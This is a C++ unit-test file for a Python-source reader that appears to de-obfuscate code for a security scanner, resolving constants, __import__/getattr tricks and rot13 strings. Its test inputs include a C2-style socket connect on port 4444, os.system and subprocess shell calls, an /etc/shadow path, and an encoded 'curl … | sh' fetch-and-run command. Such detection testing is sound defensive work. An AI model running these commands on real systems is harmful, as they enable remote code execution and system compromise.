// The Python reader's view of the source: constants bound where they are used.
#include <gtest/gtest.h>

#include "python_source.hpp"

namespace nonaxis::ciso::detail {
namespace {

TEST(PythonSource, ConstantsBoundOnceAreReplacedWhereUsed) {
  EXPECT_EQ(read_python("HOST = \"198.51.100.3\"\nPORT = 4444  # c2\ns.connect((HOST, PORT))\n").joined,
            "HOST = \"198.51.100.3\"\nPORT = 4444  # c2\ns.connect((\"198.51.100.3\", 4444))\n");
}

TEST(PythonSource, ImportAndGetattrSpellingsReadAsPlainNames) {
  EXPECT_EQ(read_python("getattr(__import__('os'), 'system')('id')").joined, "os.system('id')");
  EXPECT_EQ(read_python("__import__(\"subprocess\").call(['sh'])").joined, "subprocess.call(['sh'])");
  ASSERT_EQ(read_python("__import__('os').system('id')").shell_commands.size(), 1u);
}

TEST(PythonSource, OnlyPlainUsesOfSingleBindingsAreReplaced) {
  // Bound twice (value depends on the path taken), rebound in a block, an attribute, a
  // keyword argument, a string and a comment.
  const std::string src =
      "A = '/etc/shadow'\nA = 'notes.txt'\nB = 'x'\nif y:\n    B = 'z'\nC = 'c'\n"
      "f(A, B, o.C, g(C=1), 'C', \"\"\"C\"\"\")  # C\n";
  EXPECT_EQ(read_python(src).joined, src);
}

TEST(PythonSource, Rot13LiteralsAreDecoded) {
  const PythonView v = read_python("import codecs,os;os.system(codecs.decode('phey -f uggc://k.rknzcyr/k | fu','rot13'))");
  ASSERT_EQ(v.rot13.size(), 1u);
  EXPECT_EQ(v.rot13[0].text, "curl -s http://x.example/x | sh");
  EXPECT_TRUE(read_python("codecs.decode(data, 'utf-8')").rot13.empty());
}

}  // namespace
}  // namespace nonaxis::ciso::detail
